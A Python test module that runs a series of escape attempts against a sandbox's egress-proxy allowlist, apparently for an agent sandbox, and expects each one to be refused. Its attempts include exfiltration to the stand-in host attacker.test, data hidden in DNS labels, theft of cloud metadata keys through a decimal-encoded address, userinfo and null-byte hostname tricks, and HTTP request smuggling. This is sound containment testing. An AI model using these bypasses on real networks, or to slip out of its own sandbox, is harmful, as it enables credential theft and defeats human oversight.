"""Ways past the allowlist of a sandbox that has a way out: a few, end to end; ``tests`` of the broker itself try many more."""

from __future__ import annotations

import os
import socket

from escape.attempts.core import Given, Refused, attempt, number
from escape.attempts.network import METADATA, TEST_ADDRESS

_PROXY = ("127.0.0.1", 3128)
_BROKER = "the egress broker"
ALLOWED_NAME, LOOPBACK_NAME = "allowed.test", "loop.test"


def _said(sock: socket.socket, request: bytes) -> bytes:
    sock.settimeout(5)
    sock.sendall(request)
    return sock.recv(256)


def _ask(request: bytes) -> None:
    """Send ``request`` to the proxy; outside, where there is none, to the server itself."""
    inside = os.path.exists("/opt/edgeagent")
    with socket.create_connection(_PROXY if inside else (TEST_ADDRESS, 80), 5) as sock:
        status = _said(sock, request).split(b" ")[1:2]
    if status != [b"200"]:
        raise Refused(status[0].decode() if status else "nothing was answered")


def _get(target: str, host: str = "", more: str = "") -> None:
    _ask(f"GET {target} HTTP/1.1\r\nHost: {host or target.split('/')[2]}\r\n{more}\r\n".encode())


def _connect(target: str) -> None:
    _ask(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())


@attempt("data leaves for a place of the policy's", egress="ok", control="root", accepted="the policy permits this place")
def permitted_place(_given: Given) -> object:
    """Fetch from a place that the policy names."""
    return _get(f"http://{ALLOWED_NAME}/")


@attempt("data leaves for another place", layer=_BROKER, egress="403", control="root")
def another_host(_given: Given) -> object:
    """Fetch from a host that the policy does not name."""
    return _get("http://attacker.test/")


@attempt("data leaves in the names that are looked up", layer=_BROKER, egress="403", control="root")
def data_in_a_label(_given: Given) -> object:
    """Have the proxy look up a name that carries data."""
    return _get(f"http://c2VjcmV0.{ALLOWED_NAME}/")


@attempt("data leaves for another place", layer=_BROKER, egress="403", control="root")
def suffix_of_permitted(_given: Given) -> object:
    """Fetch from a host whose name only begins like a permitted one."""
    return _get(f"http://{ALLOWED_NAME}.attacker.test/")


@attempt("data leaves for another place", layer=_BROKER, egress="403", control="root")
def another_port(_given: Given) -> object:
    """Connect to another port of a permitted host."""
    return _connect(f"{ALLOWED_NAME}:22")


@attempt("the cloud's keys are fetched", layer=_BROKER, egress="403", control="root")
def metadata_by_proxy(_given: Given) -> object:
    """Fetch from a cloud's metadata service through the proxy."""
    return _get(f"http://{METADATA}/")


@attempt("the cloud's keys are fetched", layer=_BROKER, egress="400|403", control="root")
def metadata_by_number(_given: Given) -> object:
    """The same, with the address as one number."""
    return _get("http://2852039166/")


@attempt("services of the host are used", layer=_BROKER, egress="403", control="root")
def loopback_by_name(given: Given) -> object:
    """Reach the host's loopback by a permitted name that resolves to it."""
    return _get(f"http://{LOOPBACK_NAME}:{number(given, 'tcp_port')}/")


@attempt("data leaves for another place", layer=_BROKER, egress="400", control="root")
def permitted_as_user_name(_given: Given) -> object:
    """Name a permitted host where the user's name belongs."""
    return _get(f"http://{ALLOWED_NAME}@attacker.test/", "attacker.test")


@attempt("data leaves for another place", layer=_BROKER, egress="400|403", control="root")
def zero_byte_in_name(_given: Given) -> object:
    """End a permitted name with a zero byte."""
    return _ask(b"CONNECT " + ALLOWED_NAME.encode() + b"\0.attacker.test:80 HTTP/1.1\r\nHost: x\r\n\r\n")


@attempt("a second request hides in the first", layer=_BROKER, egress="400", control="root")
def smuggle_request(_given: Given) -> object:
    """Give two lengths of one body."""
    return _get(f"http://{ALLOWED_NAME}/", more="Content-Length: 4\r\nTransfer-Encoding: chunked\r\n")


@attempt("data leaves for another place", layer=_BROKER, egress="400|403", control="root")
def another_host_header(_given: Given) -> object:
    """Name a permitted host in the request line, another one in the header."""
    return _get(f"http://{ALLOWED_NAME}/", "attacker.test")


@attempt("data leaves for another place", layer="network namespace", egress="ENETUNREACH", control="root")
def past_the_proxy(_given: Given) -> object:
    """Connect to a permitted place without the proxy."""
    with socket.create_connection((TEST_ADDRESS, 80), 5) as sock:
        return sock.send(b"x")


@attempt("data leaves in the names that are looked up", layer="network namespace", egress="EAI_AGAIN|EAI_NONAME", control="root")
def look_up_past_the_proxy(_given: Given) -> object:
    """Look up a permitted name without the proxy."""
    try:
        return socket.getaddrinfo(ALLOWED_NAME, 80)
    except socket.gaierror as error:
        raise Refused({socket.EAI_AGAIN: "EAI_AGAIN", socket.EAI_NONAME: "EAI_NONAME"}[error.errno or 0]) from error
